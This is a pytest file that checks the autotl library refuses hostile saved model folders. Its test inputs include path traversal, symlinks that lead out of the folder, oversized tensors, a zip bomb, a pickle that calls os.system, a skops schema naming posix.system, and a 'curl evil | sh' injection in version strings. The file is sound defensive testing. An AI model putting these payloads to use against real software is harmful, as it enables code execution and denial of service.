"""Hostile model folders: each is refused with a message of its own, and no file outside of the folder is opened."""

import io
import json
import os
import shutil
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from autotl.backbones.timm import TimmBackbone
from autotl.errors import AutotlError
from autotl.model.image_model import ImageModel, load
from autotl.model.member import Member
from autotl.recipe import Recipe
from autotl.registry import load_registry
from autotl.strategies.base import Fitted

sys.path.insert(0, str(Path(__file__).parent))  # importlib mode adds no test folder
sys.path.insert(0, str(Path(__file__).parents[1]))
from forging import edit, manifest_of, member_of, seal
from watching import WATCHED, secret_folder  # noqa: F401  # a fixture


@pytest.fixture(scope="module")
def valid_model(tiny, tmp_path_factory) -> Path:
    """A valid model of two members: one with a dense head and fine-tuned blocks, one with an estimator."""
    registry = load_registry(without=["engines.openvino"])
    backbone = tiny("test_resnet")
    module = backbone.build()
    tuned = {name: tensor for name, tensor in module.state_dict().items() if name.startswith("stages.3")}
    width = module.num_features
    dense = registry.head("mlp")
    rng = np.random.default_rng(0)
    linear = registry.head("logistic_regression")
    estimator = linear.build(linear.defaults(), width, 2, 0)
    estimator.fit(rng.standard_normal((20, width)).astype(np.float32), np.arange(20) % 2)
    members = [
        Member(
            Recipe(backbone.name, "fine_tuning", "mlp", 1, {}, dense.defaults()),
            Fitted("last", dense.build(dense.defaults(), width, 2, 0), tuned),
            backbone.digest,
            2,
            trial=0,
        ),
        Member(
            Recipe(backbone.name, "fast_extraction", "logistic_regression", 1, {}, linear.defaults()),
            Fitted("last", estimator),
            backbone.digest,
            2,
            trial=1,
        ),
    ]
    model = ImageModel(("ants", "bees"), members, {backbone.digest: backbone}, registry=registry)
    return model.save(tmp_path_factory.mktemp("valid") / "model")


@pytest.fixture
def model(valid_model: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(valid_model, tmp_path / "model"))


def huge_tensor(file: Path, size_of_header: int | None = None) -> None:
    """Write a safetensors file whose header states a terabyte."""
    header = json.dumps({"weight": {"dtype": "F32", "shape": [1 << 38], "data_offsets": [0, 1 << 40]}}).encode()
    file.write_bytes(struct.pack("<Q", size_of_header or len(header)) + header + b"\0" * 64)


def bomb(file: Path) -> None:
    """Make a skops file of some kilobytes unpack to 64 MB."""
    with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as valid:
        parts = {name: valid.read(name) for name in valid.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
        packed.writestr("zeros.npy", b"\0" * (64 << 20))


def foreign_type(file: Path) -> None:
    """Write a skops file that would call os.system."""
    schema = {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "content": "posix.system",
        "__id__": 1, "protocol": 2, "_skops_version": "0.14",
    }  # fmt: skip
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("schema.json", json.dumps(schema))


def pickled(file: Path) -> None:
    """Write a pickle in place of a skops file; loading it would create a file."""
    file.write_bytes(b"cos\nsystem\n(S'touch /tmp/autotl-was-here'\ntR.")


def linked(path: Path, to: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink()
    path.symlink_to(to)


PLUGIN = {"component": "backbone", "name": "x", "plugin": "mars", "distribution": "mars-parts", "version": "1"}
HOSTILE_MODELS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
    # what is changed in a valid model, given its folder and the private one; and the message
    "a digest that leads out": (
        lambda m, p: edit(manifest_of(m), "backbones.0.digest", "../../private"),
        r"model\.json is damaged or was made by hand: backbones\.0\.digest",
    ),
    "an absolute digest": (
        lambda m, p: edit(manifest_of(m), "backbones.0.digest", f"{p}/secret"),
        r"backbones\.0\.digest = '/.*: String should match pattern",
    ),
    "a backbone in a private folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"local-dir:{p}"),
        r"There is no backbone named 'local-dir:/.*private'",
    ),
    "a backbone from the network": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "hf-hub:evil/net"),
        r"There is no backbone named 'hf-hub:evil/net'",
    ),
    "a family's backbone in a private folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"hf:{p}"),
        r"There is no backbone named 'hf:/.*private'",
    ),
    "a family's backbone beside the current folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "hf:private"),
        r"There is no backbone named 'hf:private'",
    ),
    "a plugin's address of a private folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"backbones.timm:local-dir:{p}"),
        r"There is no backbone named 'backbones\.timm:local-dir:/",
    ),
    "a family's backbone that its plugin doesn't list": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "torchvision:secret"),
        r"There is no backbone named 'torchvision:secret'",
    ),
    "a configuration that isn't there": (
        lambda m, p: edit(manifest_of(m), "backbones.0.config_files", ["config.json"]),
        r"config\.json is missing",
    ),
    "a configuration above": (
        lambda m, p: edit(manifest_of(m), "backbones.0.config_files", ["../../../private/secret.json"]),
        r"config_files\.0 = '\.\./.*String should match pattern",
    ),
    "images of no size": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.size", 0),
        r"size = 0 is no preprocessing of a network",
    ),
    "images of gigabytes": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.size", 30_000),
        r"size = 30000 is no preprocessing of a network",
    ),
    "a crop of a point": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.crop", 1e-7),
        r"crop = 1e-07 is no preprocessing of a network",
    ),
    "a deviation of zero": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.std", [0.0, 1.0, 1.0]),
        r"std = \(0\.0, 1\.0, 1\.0\) is no preprocessing",
    ),
    "two means": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.mean", [0.5, 0.5]),
        r"mean = \(0\.5, 0\.5\) is no preprocessing",
    ),
    "an interpolation by a method's name": (
        lambda m, p: edit(manifest_of(m), "backbones.0.preprocessing.interpolation", "__class__"),
        r"interpolation = '__class__' is no preprocessing",
    ),
    "a command in a version": (
        lambda m, p: edit(manifest_of(m), "versions", {"timm": "1; curl evil | sh"}),
        r"versions\.timm = '1; curl evil \| sh'",
    ),
    "a head of ten thousand layers": (
        lambda m, p: edit(member_of(m), "recipe.head_params.depth", 10_000),
        r"the network that is described is larger than the file with its weights",
    ),
    "answers of another head": (
        lambda m, p: edit(member_of(m, 1), "answers.0.0", 77.0),
        r"it gives other answers than when it was saved",
    ),
    "a plugin's backbone in a private folder": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "name": f"local-dir:{p}"}]),
        r"lists 'local-dir:.*' as the backbone of a plugin, and has no such backbone: it was made",
    ),
    "an option that is a path": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"test_resnet,checkpoint_path={p}/secret"),
        r"has an option of no network, 'checkpoint_path=/.*'",
    ),
    "an option that names a file": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,checkpoint_path=secret.json"),
        r"the model argument checkpoint_path can't be given",
    ),
    "an option that leads out": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,stem_type=private/../secret"),
        r"has an option of no network, 'stem_type=private/\.\./secret'",
    ),
    "an option of a million": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,base_width=1000000"),
        r"base_width = 1000000 is invalid: numbers are at most 4,096",
    ),
    "options of a huge network": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,layers=4000/4000/4000/4000@x"),
        r"timm can't build test_resnet with layers=.*ValueError: the network that is described is larger",
    ),
    "a family's name with an option and a folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"local-dir:{p},mean=0.5"),
        r"There is no backbone named 'local-dir:/.*private'",
    ),
    "levels that no plugin has": (
        lambda m, p: edit(member_of(m), "levels", "martian"),
        r"member\.json: There are no levels named 'martian'",
    ),
    "an augmentation that no plugin has": (
        lambda m, p: edit(member_of(m), "views", [{"policy": "martian", "number": 0}]),
        r"member\.json: There is no augmentation named 'martian'",
    ),
    "a view that its augmentation doesn't have": (
        lambda m, p: edit(member_of(m), "views", [{"policy": "flip", "number": 1}]),
        r"augmentation 'flip' has 1 views, and number 1 is none of them",
    ),
    "levels of a missing plugin": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "component": "levels", "name": "pooled"}]),
        r"needs the levels 'pooled' of plugin 'mars' \(mars-parts 1\), which isn't installed",
    ),
    "an augmentation of a missing plugin": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "component": "augmentation", "name": "warp"}]),
        r"needs the augmentation 'warp' of plugin 'mars'",
    ),
    "a command for the user to type": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "version": "1; curl evil | sh"}]),
        r"plugins\.0\.version = '1; curl evil \| sh'",
    ),
    "the manifest is a link out": (lambda m, p: linked(manifest_of(m), p / "secret.json"), r"link that leads out of"),
    "a member is a link out": (lambda m, p: linked(m / "members" / "0", p), r"members/0 is a link that leads out of"),
    "weights are a link out": (
        lambda m, p: linked(next((m / "backbones").glob("*.safetensors")), p / "secret.json"),
        r"\.safetensors is a link that leads out of .*, to .*private/secret\.json",
    ),
    "a link up and down again": (
        lambda m, p: (m / "more").symlink_to(Path("..") / "private"),
        r"more is a link that leads out of",
    ),
    "a pipe that never ends": (
        lambda m, p: (member_of(m).unlink(), os.mkfifo(member_of(m))),
        r"member\.json is neither a file nor a folder",
    ),
    "a newer format": (
        lambda m, p: (
            edit(manifest_of(m), "format", 7),
            edit(manifest_of(m), "versions", {"autotl": "3.2"}),
        ),
        r"model format 7, and this autotl reads format 4\. Use the autotl that wrote it: autotl 3\.2\.",
    ),
    "an unknown format": (
        lambda m, p: manifest_of(m).write_text('{"format": "x", "about": [1]}'),
        r"model format 'x', and this autotl reads format 4\. Use the autotl that wrote it: an unknown version\.",
    ),
    "a manifest nested too deep": (
        lambda m, p: manifest_of(m).write_text("[" * 200_000),
        r"model\.json is not JSON: it is nested too deep",
    ),
    "a manifest without an end": (
        lambda m, p: manifest_of(m).write_bytes(b" " * ((64 << 20) + 1)),
        r"model\.json is not JSON: it has more than",
    ),
    "a billion members": (
        lambda m, p: edit(manifest_of(m), "members", 10**9),
        r"members = 1000000000: Input should be less",
    ),
    "no members": (lambda m, p: edit(manifest_of(m), "members", 0), r"members = 0: Input should be greater"),
    "members as text": (
        lambda m, p: edit(manifest_of(m), "members", "2"),
        r"members = '2': Input should be a valid integer",
    ),
    "a class twice": (lambda m, p: edit(manifest_of(m), "classes", ["a", "a"]), r"a class is duplicated"),
    "more classes than its members have": (
        lambda m, p: edit(manifest_of(m), "classes", ["a", "b", "c"]),
        r"member 0 belongs to another one",
    ),
    "a member of another backbone": (
        lambda m, p: edit(member_of(m), "backbone_digest", "ab" * 16),
        r"member 0 belongs to another one",
    ),
    "a weight that isn't finite": (
        lambda m, p: member_of(m).write_text(member_of(m).read_text().replace('"weight": 1.0', '"weight": NaN')),
        r"weight = nan: Input should be a finite number",
    ),
    "a temperature of zero": (lambda m, p: edit(member_of(m), "temperature", 0.0), r"temperature = 0\.0"),
    "weights of zero": (
        lambda m, p: [edit(member_of(m, i), "weight", 0.0) for i in (0, 1)],
        r"the weight of each member is 0",
    ),
    "levels that are a path": (
        lambda m, p: edit(member_of(m), "levels", "../../private"),
        r"levels = '\.\./\.\./private'",
    ),
    "a recipe of lists": (lambda m, p: edit(member_of(m), "recipe", [1, 2]), r"recipe = \[1, 2\]"),
    "a recipe with an unknown key": (
        lambda m, p: edit(member_of(m), "recipe.callback", "os.system"),
        r"recipe\.callback = 'os\.system': Extra inputs",
    ),
    "a head of terabytes": (
        lambda m, p: edit(member_of(m), "recipe.head_params.width", 10**12),
        r"is not the head that its model describes: ValueError: the network that is described is larger",
    ),
    "too many features": (
        lambda m, p: edit(member_of(m), "num_features", 10**15),
        r"num_features is 1,000,000,000,000,000\.",
    ),
    "a head of other features": (
        lambda m, p: edit(member_of(m, 1), "num_features", 7),
        r"it takes \d+ features, not 7",
    ),
    "an unknown head parameter": (
        lambda m, p: edit(member_of(m), "recipe.head_params.callback", "os.system"),
        r"is not the head that its model describes: TypeError",
    ),
    "a tensor larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "head.safetensors"),
        r"head\.safetensors is damaged",
    ),
    "a header larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "backbone_state.safetensors", 1 << 60),
        r"backbone_state\.safetensors is damaged",
    ),
    "a pickle for an estimator": (
        lambda m, p: pickled(m / "members" / "1" / "head.skops"),
        r"head\.skops is damaged",
    ),
    "a function for an estimator": (
        lambda m, p: foreign_type(m / "members" / "1" / "head.skops"),
        r"contains types that head 'logistic_regression' doesn't trust, so it isn't loaded: posix\.system",
    ),
    "an estimator that unpacks without end": (
        lambda m, p: bomb(m / "members" / "1" / "head.skops"),
        r"its parts state [\d,]+ bytes, more than the file's",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_MODELS)
def test_a_hostile_model_folder_is_refused(name: str, model: Path, secret: Path) -> None:
    change, message = HOSTILE_MODELS[name]
    folder, WATCHED["folder"] = WATCHED["folder"], None  # the test itself may open private files here
    change(model, secret)
    if "link" not in name:
        seal(model)
    WATCHED["folder"] = folder
    with pytest.raises(AutotlError, match=message):
        load(model, registry=load_registry(without=["engines.openvino"]))
    assert not Path("/tmp/autotl-was-here").exists()


def test_the_unchanged_model_is_accepted(model: Path, cells: Path) -> None:
    paths = sorted(cells.glob("*/*"))[:3]
    assert load(model, registry=load_registry(without=["engines.openvino"])).predict_proba(paths).shape == (3, 2)


def test_weights_outside_of_the_model_folder_are_not_read(model: Path, secret: Path, cells: Path) -> None:
    """The name of a backbone may contain a file, but the weights come from the model folder."""
    edit(manifest_of(model), "backbones.0.name", f"test_resnet@{secret / 'secret.json'}")
    seal(model)
    loaded = load(model, registry=load_registry(without=["engines.openvino"]))
    assert loaded.predict_proba(sorted(cells.glob("*/*"))[:1]).shape == (1, 2)


def test_a_network_of_gigabytes_is_refused_before_it_is_built(model: Path, cells: Path, monkeypatch) -> None:
    edit(manifest_of(model), "backbones.0.name", "vit_giant_patch14_224")  # a billion parameters
    for i in (0, 1):
        edit(member_of(model, i), "recipe.backbone", "vit_giant_patch14_224")
    seal(model)
    loaded = load(model, registry=load_registry(without=["engines.openvino"]))
    built = []
    build = TimmBackbone.build
    monkeypatch.setattr(TimmBackbone, "build", lambda *args, **more: built.append(build(*args, **more)) or built[-1])
    with pytest.raises(AutotlError, match=r"doesn't hold the weights of vit_giant_patch14_224: ValueError"):
        loaded.predict_proba(sorted(cells.glob("*/*"))[:1])
    assert not built
